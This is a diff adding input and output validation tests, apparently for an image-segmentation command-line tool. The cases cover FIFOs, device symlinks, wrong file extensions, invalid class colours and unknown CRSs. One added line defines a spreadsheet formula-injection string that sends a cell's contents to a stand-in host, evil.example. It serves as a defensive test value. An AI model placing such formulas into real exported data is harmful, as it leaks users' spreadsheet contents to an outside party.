@@ -89,6 +89,32 @@ def _existing_output(w: dict[str, Any], d: Path) -> None:
 
 RO = "/proc/dualstream-readonly.tif"  # a destination nobody (root included) can create
 
+
+def _fifo(name: str) -> Callable[[dict[str, Any], Path], None]:
+    def make(w: dict[str, Any], d: Path) -> None:
+        os.mkfifo(d / name)
+
+    return make
+
+
+def _bad_colour_bundle(w: dict[str, Any], d: Path) -> None:
+    """The suite's bundle with class 1's colour edited to '#zzzzzz' (as a train before colours were checked
+    wrote it); the weights and their digest are untouched."""
+    import json
+
+    data = Path(w["bundle"]).read_bytes()
+    size = int.from_bytes(data[:8], "little")
+    header = json.loads(data[8: 8 + size])
+    meta = json.loads(header["__metadata__"]["dualstream"])
+    meta["data"]["class_colors"][1] = "#zzzzzz"
+    header["__metadata__"]["dualstream"] = json.dumps(meta)
+    text = json.dumps(header).encode()
+    text += b" " * (-len(text) % 8)
+    (d / "colour.dsmodel").write_bytes(len(text).to_bytes(8, "little") + text + data[8 + size:])
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'  # a class name a spreadsheet would run
+
 CASES: list[Case] = [
     # --- outputs onto inputs: the data-destroying cases of the issue, by every spelling -----------------------
     Case("train_out_is_image", lambda w, d: train(w, d, out=w["image"]), ("--out", "--image", "same file")),
@@ -123,6 +149,38 @@ CASES: list[Case] = [
     Case("evaluate_csv_onto_label", lambda w, d: evaluate(w, d, out=str(d / "lab.json"), label=str(d / "lab.csv")),
          ("metrics", "--label"), setup=_copy("label", "lab.csv")),
     Case("evaluate_rle_onto_label", lambda w, d: evaluate(w, d, "--rle-csv", w["label"]), ("--rle-csv", "--label")),
+    # --- destinations that are no regular file, or named for another format ------------------------------------
+    # a link to /dev/full: as root, the rename replaced the device itself (the link keeps the real one out of reach)
+    Case("segment_out_is_a_device", lambda w, d: seg(w, d, out="full.tif"), ("full.tif", "device"),
+         setup=lambda w, d: os.symlink("/dev/full", d / "full.tif")),
+    Case("segment_out_is_a_fifo", lambda w, d: seg(w, d, out="pipe.tif"), ("pipe.tif", "named pipe"),
+         setup=_fifo("pipe.tif")),
+    Case("segment_out_png_for_a_geotiff", lambda w, d: seg(w, d, out="o.png"), ("o.png", ".tif")),
+    Case("train_out_not_a_dsmodel", lambda w, d: train(w, d, out="model.bundle"), ("model.bundle", ".dsmodel")),
+    Case("evaluate_rle_onto_a_device", lambda w, d: evaluate(w, d, "--rle-csv", str(d / "null.csv")),
+         ("null.csv", "device"), setup=lambda w, d: os.symlink("/dev/null", d / "null.csv")),
+    # --- inputs that are no regular file: a FIFO blocked the first read forever -----------------------------
+    Case("image_is_a_fifo", lambda w, d: seg(w, d, image=str(d / "fifo.tif")), ("fifo.tif", "named pipe"),
+         setup=_fifo("fifo.tif")),
+    Case("bundle_is_a_fifo", lambda w, d: seg(w, d, model=str(d / "m.dsmodel")), ("m.dsmodel", "named pipe"),
+         setup=_fifo("m.dsmodel")),
+    Case("bundle_is_a_folder", lambda w, d: seg(w, d, model=str(Path(w["bundle"]).parent)),
+         ("is a folder", "tiny.dsmodel")),
+    Case("info_of_a_folder", lambda w, d: ["info", str(Path(w["bundle"]).parent)], ("is a folder", "tiny.dsmodel")),
+    # --- colours, names and CRSs checked where they enter -----------------------------------------------------
+    Case("train_class_colour_invalid", lambda w, d: train(w, d, "--class-colors", "#000000", "#zzzzzz"),
+         ("#zzzzzz", "colour")),
+    Case("train_class_name_empty", lambda w, d: train(w, d, "--class-names", "background", " "),
+         ("class 1", "empty")),
+    Case("bundle_with_an_invalid_colour_segments_with_a_warning",
+         lambda w, d: seg(w, d, model=str(d / "colour.dsmodel")), code=0, produces=("out.tif", "out.qml"),
+         warns=("colour.dsmodel", "'#zzzzzz' -> #"), setup=_bad_colour_bundle),
+    Case("extent_crs_unknown", lambda w, d: seg(w, d, "--extent", "0", "0", "10", "10", "--extent-crs",
+                                                "EPSG:999999"), ("epsg:999999", "--extent-crs")),
+    Case("extent_crs_not_a_crs", lambda w, d: seg(w, d, "--extent", "0", "0", "10", "10", "--extent-crs",
+                                                  "not a crs"), ("not a crs", "--extent-crs")),
+    Case("batch_size_huge_answers_at_once", lambda w, d: seg(w, d, "--batch-size", "100000000"),
+         ("--batch-size", "gib")),
     # --- images ------------------------------------------------------------------------------------------------
     Case("image_missing", lambda w, d: seg(w, d, image=str(d / "missing.tif")), ("missing.tif",)),
     Case("image_truncated", lambda w, d: seg(w, d, image=w["truncated_image"]), ("truncated.tif",)),
